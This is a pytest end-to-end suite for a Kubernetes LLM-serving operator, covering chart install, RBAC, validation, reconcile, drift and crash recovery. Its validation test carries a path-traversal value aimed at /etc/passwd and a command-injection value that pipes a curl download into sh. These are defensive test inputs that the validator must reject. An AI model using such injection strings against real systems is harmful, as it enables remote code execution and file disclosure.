"""The operator on the real control plane: chart install, CRD validation, reconcile, status, drift,
rollout, deletion, crash recovery, bad specs, namespaces, least-privilege RBAC."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
import yaml

from e2e.isvc import condition
from e2e.operator_proc import OperatorProcess, service_account_kubeconfig
from e2e.waiting import wait_until

pytestmark = pytest.mark.cluster
ROOT = Path(__file__).resolve().parents[1]
CHART_NS = "kvpilot-system"
ISVC = "serving.kvpilot.dev/inferenceservice"


def kget(cluster, *args):
    r = cluster.kubectl("get", *args, "-o", "json", check=False)
    return json.loads(r.stdout) if r.returncode == 0 else None


def isvc(name, **spec):
    body = {"model": {"source": "smollm2-135m"}, "maxReplicas": 3, **spec}
    return json.dumps({"apiVersion": "serving.kvpilot.dev/v1alpha1", "kind": "InferenceService", "metadata": {"name": name}, "spec": body})


def mark_engine_pods_ready(cluster, namespace, name):
    """What the e2e pod runner does once an engine's /ready passes (here without a real engine)."""
    for pod in kget(cluster, "pods", "-n", namespace, "-l", f"{ISVC}={name}")["items"]:
        if pod["status"].get("phase") == "Running" and not pod["metadata"].get("deletionTimestamp"):
            cluster.kubectl("annotate", "pod", pod["metadata"]["name"], "-n", namespace, "serving.kvpilot.dev/engine-ready=true", "--overwrite")


@pytest.fixture(scope="module")
def chart(cluster):
    cluster.kubectl("create", "namespace", CHART_NS, check=False)
    cluster.helm("install", "kvpilot", str(ROOT / "charts" / "kvpilot"), "-n", CHART_NS, "--wait", "--timeout", "90s")
    yield "kvpilot"
    cluster.helm("uninstall", "kvpilot", "-n", CHART_NS, check=False)


@pytest.fixture(scope="module")
def operator(cluster, chart, tmp_path_factory):
    """The operator, run locally with the chart's ServiceAccount identity."""
    d = tmp_path_factory.mktemp("operator")
    kubeconfig = service_account_kubeconfig(cluster, CHART_NS, "kvpilot", d / "kubeconfig")
    op = OperatorProcess(kubeconfig, d / "operator.log", lease_namespace=CHART_NS)
    yield op
    op.stop()


def test_chart_installs_crd_and_least_privilege_identity(cluster, chart):
    crd = kget(cluster, "crd", "inferenceservices.serving.kvpilot.dev")
    assert crd["metadata"]["annotations"]["kvpilot.dev/generated-by"].startswith("kvpilot.operator.crd_gen")
    role = kget(cluster, "clusterrole", "kvpilot")
    verbs = {v for rule in role["rules"] for v in rule["verbs"]}
    assert "*" not in verbs and "update" not in verbs
    # it deletes what it made and no longer wants: a model cache claim whose last user let go of it, a prefill pool
    # turned off, with its KV transfer NetworkPolicy, the workload of replicas that became groups of pods or stopped being
    # them (the GC does the rest)
    assert [rule["resources"] for rule in role["rules"] if "delete" in rule["verbs"]] == [["deployments"], ["leaderworkersets"], ["poddisruptionbudgets"],
                                                                                         ["networkpolicies"], ["persistentvolumeclaims"]]
    dep = kget(cluster, "deployment", "kvpilot", "-n", CHART_NS)
    sc = dep["spec"]["template"]["spec"]["containers"][0]["securityContext"]
    assert sc["readOnlyRootFilesystem"] is True and dep["spec"]["template"]["spec"]["securityContext"]["runAsNonRoot"] is True
    cluster.kubectl("apply", "-f", str(ROOT / "crds"))  # kubectl apply of crds/ over the chart's copy: same object
    # the gateway: its own identity, pods read-only, InferenceServices read and patched (the scale-from-zero
    # annotation), a Service in front
    gateway_role = kget(cluster, "clusterrole", "kvpilot-gateway")
    verbs = {r: set(rule["verbs"]) for rule in gateway_role["rules"] for r in rule["resources"]}
    assert verbs == {"pods": {"get", "list", "watch"}, "inferenceservices": {"get", "list", "watch", "patch"}}
    assert sorted(r for rule in gateway_role["rules"] for r in rule["resources"]) == ["inferenceservices", "pods"]
    gateway = kget(cluster, "deployment", "kvpilot-gateway", "-n", CHART_NS)["spec"]["template"]["spec"]
    assert gateway["serviceAccountName"] == "kvpilot-gateway" and gateway["containers"][0]["command"] == ["kvpilot-gateway"]
    assert kget(cluster, "service", "kvpilot-gateway", "-n", CHART_NS)["spec"]["ports"][0]["targetPort"] == "http"


def test_chart_rbac_is_namespaced_when_watch_namespaces_is_set(cluster):
    out = cluster.helm("template", "kvpilot", str(ROOT / "charts" / "kvpilot"), "-n", CHART_NS, "--set", "watchNamespaces={team-x,team-y}").stdout
    docs = [d for d in yaml.safe_load_all(out) if d]
    hooks = [d["metadata"]["name"] for d in docs if "helm.sh/hook" in (d["metadata"].get("annotations") or {})]
    assert "kvpilot-crd-upgrade" in hooks  # (the CRD upgrade's own identity, for the hook alone: checked in the upgrade test)
    (cluster_role,) = [d for d in docs if d["kind"] == "ClusterRole" and d["metadata"]["name"] not in hooks]  # the operator's; the gateway has none
    assert [r["resources"] for r in cluster_role["rules"]] == [["customresourcedefinitions"]]
    assert {(d["metadata"]["namespace"], d["metadata"]["name"]) for d in docs if d["kind"] == "Role" and "gateway" in d["metadata"]["name"]} == {
        ("team-x", "kvpilot-gateway"), ("team-y", "kvpilot-gateway")}  # the gateway too reads only the watched namespaces
    roles = {(d["metadata"]["namespace"], d["metadata"]["name"]): d for d in docs if d["kind"] == "Role"}
    assert {("team-x", "kvpilot"), ("team-y", "kvpilot"), (CHART_NS, "kvpilot-leader-election")} <= set(roles)
    assert any("deployments" in r["resources"] for r in roles[("team-x", "kvpilot")]["rules"])
    bindings = {(d["metadata"]["namespace"], d["roleRef"]["name"]) for d in docs if d["kind"] == "RoleBinding"}
    assert {("team-x", "kvpilot"), ("team-y", "kvpilot"), (CHART_NS, "kvpilot-leader-election")} <= bindings
    dep = next(d for d in docs if d["kind"] == "Deployment" and d["metadata"]["name"] == "kvpilot")
    assert dep["spec"]["replicas"] == 2 and "--namespace=team-x" in dep["spec"]["template"]["spec"]["containers"][0]["args"]
    # the chart's PodMonitor relabels exactly as the operator's own (the autoscaler's queries depend on it)
    from kvpilot.operator.builders.manifests import METRICS_RELABELINGS

    out = cluster.helm("template", "kvpilot", str(ROOT / "charts" / "kvpilot"), "--set", "serviceMonitor.enabled=true").stdout
    monitor = next(d for d in yaml.safe_load_all(out) if d and d["kind"] == "PodMonitor")
    assert monitor["spec"]["podMetricsEndpoints"][0]["relabelings"] == METRICS_RELABELINGS


@pytest.mark.timeout(300)
def test_helm_upgrade_applies_the_charts_crd_and_renders_every_new_value(cluster, chart, tmp_path):
    """`helm upgrade` changes the CRD (Helm itself installs crds/ on first install only): the chart's pre-upgrade hook Job,
    run by the pod runner as its own ServiceAccount, replaces the cluster's CRD with the chart's copy; the hook's objects are
    gone after.
    And the chart renders each of its newer values into the objects they are for."""
    import shutil

    from e2e.pod_runner import PodRunner

    copy = tmp_path / "kvpilot"
    shutil.copytree(ROOT / "charts" / "kvpilot", copy)
    crd_file = copy / "crds" / "serving.kvpilot.dev_inferenceservices.yaml"
    crd = yaml.safe_load(crd_file.read_text())
    crd["metadata"]["annotations"]["kvpilot.dev/upgrade-test"] = "applied by the pre-upgrade hook"
    crd_file.write_text(yaml.safe_dump(crd, sort_keys=False))
    name = "inferenceservices.serving.kvpilot.dev"
    runner = PodRunner(cluster.server, tmp_path / "pods", kubeconfig=json.loads(cluster.kubeconfig.read_text())).start()
    try:
        cluster.helm("upgrade", "kvpilot", str(copy), "-n", CHART_NS, "--wait", "--timeout", "150s", timeout=200)
        assert kget(cluster, "crd", name)["metadata"]["annotations"]["kvpilot.dev/upgrade-test"] == "applied by the pre-upgrade hook"
        assert kget(cluster, "clusterrole", "kvpilot-crd-upgrade") is None and kget(cluster, "job", "kvpilot-crd-upgrade", "-n", CHART_NS) is None
    finally:
        runner.stop()
        cluster.kubectl("annotate", "crd", name, "kvpilot.dev/upgrade-test-", check=False)
    values = ["nameOverride=kv", "fullnameOverride=llm", "podLabels.team=search", "podAnnotations.owner=me", "priorityClassName=crit",
              "gateway.priorityClassName=front", "gateway.nodeSelector.pool=edge", "gateway.podDisruptionBudget.maxUnavailable=2",
              "engine.images.kvpilot=reg.example/kvpilot/engine:9", "engine.imagePullSecrets={regcred}", "imagePullSecrets[0].name=pull"]
    out = list(yaml.safe_load_all(cluster.helm("template", "r", str(ROOT / "charts" / "kvpilot"), "--set", ",".join(values)).stdout))
    by = {(o["kind"], o["metadata"]["name"]): o for o in out if o}
    operator, gateway = by[("Deployment", "llm")]["spec"]["template"], by[("Deployment", "llm-gateway")]["spec"]["template"]
    assert operator["metadata"]["labels"]["team"] == gateway["metadata"]["labels"]["team"] == "search"
    assert operator["metadata"]["annotations"]["owner"] == "me" and operator["spec"]["priorityClassName"] == "crit"
    assert gateway["spec"]["priorityClassName"] == "front" and gateway["spec"]["nodeSelector"] == {"pool": "edge"}
    assert by[("PodDisruptionBudget", "llm-gateway")]["spec"]["maxUnavailable"] == 2 and ("PodDisruptionBudget", "llm") in by
    assert operator["spec"]["imagePullSecrets"] == [{"name": "pull"}] and "readinessProbe" in operator["spec"]["containers"][0]
    args = operator["spec"]["containers"][0]["args"]
    assert "--engine-image=kvpilot=reg.example/kvpilot/engine:9" in args and "--engine-image-pull-secret=regcred" in args
    assert by[("Service", "llm-gateway")]["metadata"]["labels"]["app.kubernetes.io/name"] == "kvpilot-gateway"
    assert by[("Deployment", "llm")]["metadata"]["labels"]["app.kubernetes.io/part-of"] == "kv"
    rejected = cluster.helm("template", "r", str(ROOT / "charts" / "kvpilot"), "--set", "gateway.bogus=1", check=False)
    assert rejected.returncode != 0 and "bogus" in rejected.stderr


@pytest.mark.timeout(300)
def test_cpu_examples_become_ready(cluster, namespace, operator, tmp_path):
    """The CPU examples, as written (smollm2-cpu.yaml: the quick start's own test), at once: each becomes Ready (the
    disaggregated one's prefill pool too); the API-key one answers only with its key. (smollm2-cpu-lora.yaml names adapter
    directories on a claim `adapters` that only its user has, gemma3-270m-cpu.yaml a file from the Hugging Face Hub: not run.)"""
    import httpx

    from e2e.cluster import TOKEN, _insecure
    from e2e.load import ready_endpoints
    from e2e.pod_runner import PodRunner

    cluster.kubectl("create", "secret", "generic", "smollm2-key", "-n", namespace, "--from-literal=key=s3cret-e2e")
    examples = {"smollm2-gguf": "smollm2-cpu-gguf.yaml", "smollm2-speculative": "smollm2-cpu-speculative.yaml",
                "smollm2-keyed": "smollm2-cpu-api-key.yaml", "smollm2-idle": "smollm2-cpu-scale-to-zero.yaml",
                "smollm2-tiers": "smollm2-cpu-kv-offload.yaml", "smollm2-pd": "smollm2-cpu-disaggregated.yaml"}
    runner = PodRunner(cluster.server, tmp_path / "pods").start()
    try:
        for file in examples.values():
            cluster.kubectl("apply", "-n", namespace, "-f", str(ROOT / "crds" / "examples" / file))
        for name in examples:
            wait_until(lambda name=name: condition(kget(cluster, "kvis", name, "-n", namespace), "Ready").get("status") == "True", timeout=240,
                       what=f"{name} Ready")
        assert condition(kget(cluster, "kvis", "smollm2-idle", "-n", namespace), "Ready")["reason"] == "ScaledToZero"
        wait_until(lambda: ((kget(cluster, "kvis", "smollm2-pd", "-n", namespace).get("status") or {}).get("prefill") or {}).get("readyReplicas") == 1,
                   timeout=120, what="the disaggregated example's prefill pool Ready")
        api = httpx.Client(verify=_insecure(), headers={"Authorization": f"Bearer {TOKEN}"}, timeout=10)
        [keyed] = ready_endpoints(api, cluster.server, namespace, "smollm2-keyed")
        body = {"model": "smollm2-keyed", "prompt": "Hello", "max_tokens": 2}
        assert httpx.post(f"{keyed}/v1/completions", json=body, timeout=60).status_code == 401
        r = httpx.post(f"{keyed}/v1/completions", json=body, headers={"Authorization": "Bearer s3cret-e2e"}, timeout=60)
        assert r.status_code == 200 and r.json()["usage"]["completion_tokens"] == 2, r.text
    finally:
        for file in examples.values():
            cluster.kubectl("delete", "-n", namespace, "-f", str(ROOT / "crds" / "examples" / file), "--wait=false", check=False)
        runner.stop()


def test_invalid_objects_rejected_by_cel(cluster, namespace, chart):
    cases = [({"autoscaling": {"scaleToZeroIdleSeconds": 1}}, "scaleToZeroIdleSeconds"), ({"minReplicas": 3, "maxReplicas": 2}, "minReplicas must be <= maxReplicas"),
             ({"replicas": 9}, "replicas must be within"), ({"engineSettings": {"tensorParallelSize": 0}}, "tensorParallelSize"),
             ({"engineSettings": {"speculative": {"method": "draft"}}}, "need draftModel"),
             ({"engineSettings": {"speculative": {"method": "eagle3"}}}, "need draftModel"),
             ({"engineSettings": {"speculative": {"method": "ngram", "lookup": True}}}, "lookup combines n-gram lookup with methods draft"),
             ({"model": {"source": "ftp://nope"}}, "source"),
             ({"model": {"source": "pvc://claim/../../../etc/passwd"}}, "'..' are not allowed"),
             ({"model": {"source": 'hf://org/repo/x";curl${IFS}x|sh;echo${IFS}"\'.gguf'}}, "source"),
             ({"env": [{"name": "POD_IP", "value": "1.2.3.4"}]}, "cannot be overridden"),
             ({"adapters": [{"name": "a", "source": "hf://org/a"}, {"name": "a", "source": "hf://org/b"}]}, "Duplicate value"),
             ({"adapters": [{"name": "a", "source": "https://host/a.gguf"}]}, "an adapter is a directory"),
             ({"engine": "sglang", "model": {"source": "hf://org/m"}, "adapters": [{"name": "a", "source": "hf://org/a"}]},
              "adapters are loaded into engine kvpilot or vllm pods"),
             ({"env": [{"name": "HF_TOKEN", "value": "hf_x", "valueFrom": {"secretKeyRef": {"name": "hub", "key": "token"}}}]},
              "give value or valueFrom, not both")]
    for spec, message in cases:
        body = json.loads(isvc("bad"))
        body["spec"].update(spec)
        r = cluster.kubectl("apply", "-n", namespace, "-f", "-", input=json.dumps(body), check=False)
        assert r.returncode != 0 and message in r.stderr, (spec, r.stderr)


@pytest.mark.parametrize("example", sorted((ROOT / "crds" / "examples").glob("*.yaml")), ids=lambda p: p.name)
def test_examples_apply(cluster, namespace, chart, example):
    cluster.kubectl("apply", "-n", namespace, "-f", str(example))
    name = yaml.safe_load(example.read_text())["metadata"]["name"]
    assert kget(cluster, "kvis", name, "-n", namespace)["spec"]["model"]["source"]


def test_reconcile_status_rollout_drift_and_delete(cluster, namespace, operator):
    cluster.kubectl("apply", "-n", namespace, "-f", "-", input=isvc("chat", minReplicas=2, engineSettings={"maxNumSeqs": 4},
                                                                 resources={"gpuProduct": "NVIDIA-A100-SXM4-80GB"}))
    dep = wait_until(lambda: kget(cluster, "deployment", "chat", "-n", namespace), timeout=30, what="Deployment created")
    c = dep["spec"]["template"]["spec"]["containers"][0]
    assert c["resources"]["limits"]["nvidia.com/gpu"] == "1" and dep["spec"]["replicas"] == 2
    assert "--max-num-seqs" in c["args"] and c["readinessProbe"]["httpGet"]["path"] == "/ready"
    wait_until(lambda: kget(cluster, "service", "chat", "-n", namespace) and kget(cluster, "pdb", "chat", "-n", namespace), what="Service and PDB")
    owner = dep["metadata"]["ownerReferences"][0]
    assert owner["kind"] == "InferenceService" and owner["controller"] is True
    # kwok runs the pods on GPU nodes, not Ready until the engine says so
    pods = wait_until(lambda: [p for p in kget(cluster, "pods", "-n", namespace, "-l", f"{ISVC}=chat")["items"] if p["status"].get("phase") == "Running"]
                      if len(kget(cluster, "pods", "-n", namespace, "-l", f"{ISVC}=chat")["items"]) == 2 else None, timeout=30, what="2 Running pods")
    assert all(p["spec"]["nodeName"].startswith("gpu-node-") for p in pods)
    assert condition(kget(cluster, "kvis", "chat", "-n", namespace), "Ready").get("status") == "False"
    mark_engine_pods_ready(cluster, namespace, "chat")
    obj = wait_until(lambda: (lambda o: o if condition(o, "Ready").get("status") == "True" and o["status"].get("readyReplicas") == 2 else None)(
        kget(cluster, "kvis", "chat", "-n", namespace)), timeout=30, what="Ready=True with 2 ready replicas")
    assert obj["status"]["observedGeneration"] == obj["metadata"]["generation"]
    assert obj["status"]["selector"] == f"{ISVC}=chat" and obj["status"]["endpoint"].startswith("http://chat.")
    assert not any(k.startswith("kopf") for k in obj["status"])  # kopf keeps its progress in annotations
    assert any(k.startswith("kopf.serving.kvpilot.dev") for k in obj["metadata"].get("annotations", {}))
    printed = cluster.kubectl("get", "kvis", "chat", "-n", namespace).stdout.split("\n")[0].split()
    assert printed[:10] == ["NAME", "MODEL", "ENGINE", "READY", "STATUS", "REPLICAS", "DESIRED", "PREFILL", "KV", "QUEUE"]
    header, row = cluster.kubectl("get", "kvis", "chat", "-n", namespace, "-o", "wide").stdout.split("\n")[:2]
    assert "URL" in header.split() and obj["status"]["endpoint"] in row.split()  # (-o wide: the in-cluster URL; empty cells shift the split)

    # a spec change rolls the Deployment
    old_template = dep["spec"]["template"]
    cluster.kubectl("patch", "kvis", "chat", "-n", namespace, "--type=merge", "-p", json.dumps({"spec": {"extraArgs": ["--seed", "5"]}}))
    new = wait_until(lambda: (lambda d: d if d["spec"]["template"] != old_template else None)(kget(cluster, "deployment", "chat", "-n", namespace)),
                     timeout=30, what="rolled template")
    assert new["spec"]["template"]["spec"]["containers"][0]["args"][-2:] == ["--seed", "5"]
    wait_until(lambda: len(kget(cluster, "replicasets", "-n", namespace, "-l", f"{ISVC}=chat")["items"]) == 2, timeout=30, what="new ReplicaSet")

    # drift: a hand edit is undone, a deleted Deployment comes back
    cluster.kubectl("scale", "deployment", "chat", "-n", namespace, "--replicas=5")
    wait_until(lambda: kget(cluster, "deployment", "chat", "-n", namespace)["spec"]["replicas"] == 2, timeout=30, what="replicas drift undone")
    uid = kget(cluster, "deployment", "chat", "-n", namespace)["metadata"]["uid"]
    cluster.kubectl("delete", "deployment", "chat", "-n", namespace, "--wait=false")
    wait_until(lambda: (kget(cluster, "deployment", "chat", "-n", namespace) or {}).get("metadata", {}).get("uid") not in (None, uid),
               timeout=30, what="Deployment recreated")
    cluster.kubectl("delete", "service", "chat", "-n", namespace, "--wait=false")
    wait_until(lambda: kget(cluster, "service", "chat", "-n", namespace), timeout=30, what="Service recreated")

    events = kget(cluster, "events", "-n", namespace, "--field-selector", "involvedObject.kind=InferenceService,involvedObject.name=chat")["items"]
    assert {"RollingOut", "Ready"} <= {e["reason"] for e in events}

    # deleting the InferenceService removes everything it owns (garbage collector)
    cluster.kubectl("delete", "kvis", "chat", "-n", namespace)
    for kind in ("deployment", "service", "pdb"):
        wait_until(lambda kind=kind: kget(cluster, kind, "chat", "-n", namespace) is None, timeout=60, what=f"{kind} deleted")
    wait_until(lambda: not kget(cluster, "pods", "-n", namespace, "-l", f"{ISVC}=chat")["items"], timeout=60, what="pods gone")


def test_bad_spec_gives_degraded_and_event(cluster, namespace, operator):
    cluster.kubectl("apply", "-n", namespace, "-f", "-", input=isvc("typo", model={"source": "smollm3-9000b"}))
    obj = wait_until(lambda: (lambda o: o if condition(o, "Degraded").get("status") == "True" else None)(kget(cluster, "kvis", "typo", "-n", namespace)),
                     timeout=30, what="Degraded")
    assert condition(obj, "Degraded")["reason"] == "UnknownModel" and "smollm3-9000b" in condition(obj, "Degraded")["message"]
    assert kget(cluster, "deployment", "typo", "-n", namespace) is None
    events = wait_until(lambda: [e for e in kget(cluster, "events", "-n", namespace)["items"] if e["reason"] == "UnknownModel"], timeout=20, what="Event")
    assert events[0]["type"] == "Warning" and events[0]["involvedObject"]["name"] == "typo"
    # unschedulable: the scheduler's words end up in the condition
    cluster.kubectl("apply", "-n", namespace, "-f", "-", input=isvc("nogpu", resources={"gpuProduct": "NVIDIA-H200"}))
    obj = wait_until(lambda: (lambda o: o if condition(o, "Degraded").get("reason") == "Unschedulable" else None)(kget(cluster, "kvis", "nogpu", "-n", namespace)),
                     timeout=40, what="Degraded/Unschedulable")
    assert "node(s) didn't match" in condition(obj, "Degraded")["message"] or "affinity" in condition(obj, "Degraded")["message"]
    # engine settings the engine's own config refuses: a condition and an Event, not an endless retry
    cluster.kubectl("apply", "-n", namespace, "-f", "-", input=isvc("tinykv", engineSettings={"kvCacheMemory": "1"}))
    obj = wait_until(lambda: (lambda o: o if condition(o, "Degraded").get("reason") == "InvalidEngineSettings" else None)(kget(cluster, "kvis", "tinykv", "-n", namespace)),
                     timeout=30, what="Degraded/InvalidEngineSettings")
    assert "kv_cache_memory" in condition(obj, "Degraded")["message"] and kget(cluster, "deployment", "tinykv", "-n", namespace) is None
    wait_until(lambda: [e for e in kget(cluster, "events", "-n", namespace)["items"] if e["reason"] == "InvalidEngineSettings"], timeout=20, what="Event")
    # a pod template that would weaken the engine pods (the API server keeps the unknown fields; the operator refuses them)
    cluster.kubectl("apply", "-n", namespace, "-f", "-", input=isvc("rooted", podTemplate={"spec": {
        "priorityClassName": "high", "containers": [{"name": "engine", "securityContext": {"privileged": True}}]}}))
    obj = wait_until(lambda: (lambda o: o if condition(o, "Degraded").get("reason") == "InvalidPodTemplate" else None)(kget(cluster, "kvis", "rooted", "-n", namespace)),
                     timeout=30, what="Degraded/InvalidPodTemplate")
    assert "privileged" in condition(obj, "Degraded")["message"] and kget(cluster, "deployment", "rooted", "-n", namespace) is None
    # an adapter named as an older service's model: the gateway routes the name there, so the younger is Degraded
    # (created in the same second, the one whose name sorts later counts as younger: "twin" > "tinykv")
    cluster.kubectl("apply", "-n", namespace, "-f", "-", input=isvc("twin", adapters=[{"name": "tinykv", "source": "hf://org/a"}]))
    obj = wait_until(lambda: (lambda o: o if condition(o, "Degraded").get("reason") == "AdapterNameCollision" else None)(kget(cluster, "kvis", "twin", "-n", namespace)),
                     timeout=30, what="Degraded/AdapterNameCollision")
    assert f"'tinykv' is also served by InferenceService {namespace}/tinykv" in condition(obj, "Degraded")["message"]
    assert condition(kget(cluster, "kvis", "tinykv", "-n", namespace), "Degraded")["reason"] == "InvalidEngineSettings"  # the older one: unaffected
    wait_until(lambda: [e for e in kget(cluster, "events", "-n", namespace)["items"] if e["reason"] == "AdapterNameCollision"], timeout=20, what="Event")
    assert operator.proc.poll() is None  # no crash


def test_namespaces_do_not_interfere(cluster, operator):
    for ns in ("team-a", "team-b"):
        cluster.kubectl("create", "namespace", ns, check=False)
        cluster.kubectl("apply", "-n", ns, "-f", "-", input=isvc("same-name", minReplicas=1 if ns == "team-a" else 2))
    for ns, n in (("team-a", 1), ("team-b", 2)):
        wait_until(lambda ns=ns, n=n: (kget(cluster, "deployment", "same-name", "-n", ns) or {}).get("spec", {}).get("replicas") == n, timeout=30, what=f"{ns} deployment")
    cluster.kubectl("delete", "kvis", "same-name", "-n", "team-a")
    wait_until(lambda: kget(cluster, "deployment", "same-name", "-n", "team-a") is None, timeout=60, what="team-a cleaned")
    assert kget(cluster, "deployment", "same-name", "-n", "team-b")["spec"]["replicas"] == 2
    for ns in ("team-a", "team-b"):
        cluster.kubectl("delete", "namespace", ns, "--wait=false")


def test_crash_mid_reconcile_then_restart_converges(cluster, namespace, chart, operator, tmp_path):
    operator.stop()  # one operator at a time
    kubeconfig = service_account_kubeconfig(cluster, CHART_NS, "kvpilot", tmp_path / "kubeconfig")
    crashing = OperatorProcess(kubeconfig, tmp_path / "crash.log", env={"KVPILOT_TEST_FAULT_POINT": f"after-deployment@{namespace}/crashy"},
                               lease_namespace=CHART_NS)
    cluster.kubectl("apply", "-n", namespace, "-f", "-", input=isvc("crashy"))
    assert crashing.proc.wait(60) == 17, crashing.log()[-2000:]
    assert kget(cluster, "deployment", "crashy", "-n", namespace) is not None
    assert kget(cluster, "service", "crashy", "-n", namespace) is None  # it died between the two
    restarted = OperatorProcess(kubeconfig, tmp_path / "restart.log", lease_namespace=CHART_NS)  # takes over the dead one's lease
    try:
        wait_until(lambda: kget(cluster, "service", "crashy", "-n", namespace), timeout=40, what="converged after restart")
        wait_until(lambda: kget(cluster, "kvis", "crashy", "-n", namespace)["status"].get("observedGeneration") == 1, timeout=30, what="status")
        assert len(kget(cluster, "deployments", "-n", namespace, "-l", f"{ISVC}=crashy")["items"]) == 1
        assert len(kget(cluster, "replicasets", "-n", namespace, "-l", f"{ISVC}=crashy")["items"]) == 1
        assert len(kget(cluster, "services", "-n", namespace, "-l", f"{ISVC}=crashy")["items"]) == 1
    finally:
        restarted.stop()


def test_rbac_missing_rule_fails_visibly(cluster, namespace, chart, tmp_path):
    role = kget(cluster, "clusterrole", "kvpilot")
    original = json.loads(json.dumps(role))
    role["rules"] = [r for r in role["rules"] if "services" not in r["resources"]]
    for k in ("resourceVersion", "uid", "creationTimestamp", "managedFields"):
        role["metadata"].pop(k, None)
    cluster.kubectl("replace", "-f", "-", input=json.dumps(role))
    op = OperatorProcess(service_account_kubeconfig(cluster, CHART_NS, "kvpilot", tmp_path / "kc"), tmp_path / "op.log", lease_namespace=CHART_NS)
    try:
        cluster.kubectl("apply", "-n", namespace, "-f", "-", input=isvc("norbac"))
        obj = wait_until(lambda: (lambda o: o if condition(o, "Degraded").get("reason") == "ApplyFailed" else None)(kget(cluster, "kvis", "norbac", "-n", namespace)),
                         timeout=40, what="Degraded/ApplyFailed")
        assert "Forbidden" in condition(obj, "Degraded")["message"] or "forbidden" in condition(obj, "Degraded")["message"]
        assert kget(cluster, "service", "norbac", "-n", namespace) is None
    finally:
        op.stop()
        for k in ("resourceVersion", "uid", "creationTimestamp", "managedFields"):
            original["metadata"].pop(k, None)
        cluster.kubectl("replace", "-f", "-", input=json.dumps(original))
